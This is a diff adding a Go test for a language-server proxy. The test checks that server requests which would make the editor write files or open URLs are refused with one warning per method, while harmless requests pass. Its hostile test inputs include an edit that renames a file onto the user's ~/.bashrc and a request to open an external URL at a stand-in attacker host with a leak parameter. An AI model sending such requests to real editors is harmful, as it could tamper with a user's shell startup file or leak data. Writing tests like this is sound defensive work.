@@ -166,6 +166,60 @@ func TestProxyForwardsBytesAndReloadsOnManifestSave(t *testing.T) {
 	}
 }
 
+// TestProxyRefusesServerRequestsThatActOnTheHost: requests that make the
+// editor write files or open URLs never reach it, and the user gets one
+// warning per method; harmless ones pass.
+func TestProxyRefusesServerRequestsThatActOnTheHost(t *testing.T) {
+	edR, edToProxy := io.Pipe()
+	proxyToEd, edIn := io.Pipe()
+	srvIn, proxyToSrv := io.Pipe()
+	srvToProxy, srvOut := io.Pipe()
+	p := &Proxy{EditorIn: edR, EditorOut: edIn, ServerIn: proxyToSrv, ServerOut: srvToProxy, Refetch: func() error { return nil }}
+	done := make(chan error, 1)
+	go func() { done <- p.Run() }()
+	editor := peer{bufio.NewReader(proxyToEd), edToProxy}
+	server := peer{bufio.NewReader(srvIn), srvOut}
+
+	cases := []struct {
+		body    string
+		forward bool
+	}{
+		{`{"jsonrpc":"2.0","id":7,"method":"workspace/applyEdit","params":{"edit":{"documentChanges":[{"kind":"rename","oldUri":"file:///w/x","newUri":"file:///home/u/.bashrc"}]}}}`, false},
+		{`{"jsonrpc":"2.0","id":8,"method":"window/showDocument","params":{"uri":"https://evil.example/?leak=1","external":true}}`, false},
+		{`{"jsonrpc":"2.0","id":9,"method":"workspace/applyEdit","params":{}}`, false},
+		{`[{"jsonrpc":"2.0","id":10,"method":"workspace/applyEdit","params":{}}]`, false},
+		{`{"jsonrpc":"2.0","id":11,"method":"workspace/configuration","params":{"items":[]}}`, true},
+		{`{"jsonrpc":"2.0","method":"window/logMessage","params":{"type":3,"message":"hi"}}`, true},
+	}
+	warnings := 0
+	for _, c := range cases {
+		server.send(t, frame(c.body))
+		if c.forward {
+			if v := editor.recv(t); v["method"] == "window/showMessage" {
+				t.Fatalf("unexpected warning %v", v)
+			}
+			continue
+		}
+		if strings.HasPrefix(c.body, "[") || strings.Contains(c.body, `"id":9`) {
+			continue // second applyEdit: no second warning
+		}
+		if v := editor.recv(t); v["method"] != "window/showMessage" {
+			t.Fatalf("editor got %v, want the refusal warning for %s", v, c.body)
+		}
+		warnings++
+	}
+	if warnings != 2 {
+		t.Fatalf("%d warnings, want one per refused method", warnings)
+	}
+	edToProxy.Close()
+	srvOut.Close()
+	select {
+	case <-done:
+	case <-time.After(5 * time.Second):
+		t.Fatal("proxy did not stop")
+	}
+}
+
 func TestIsDependencyFile(t *testing.T) {
 	for path, want := range map[string]bool{
 		"/w/Cargo.toml": true, "/w/a/Cargo.lock": true, "/w/.cargo/config.toml": true, "/w/.cargo/config": true,
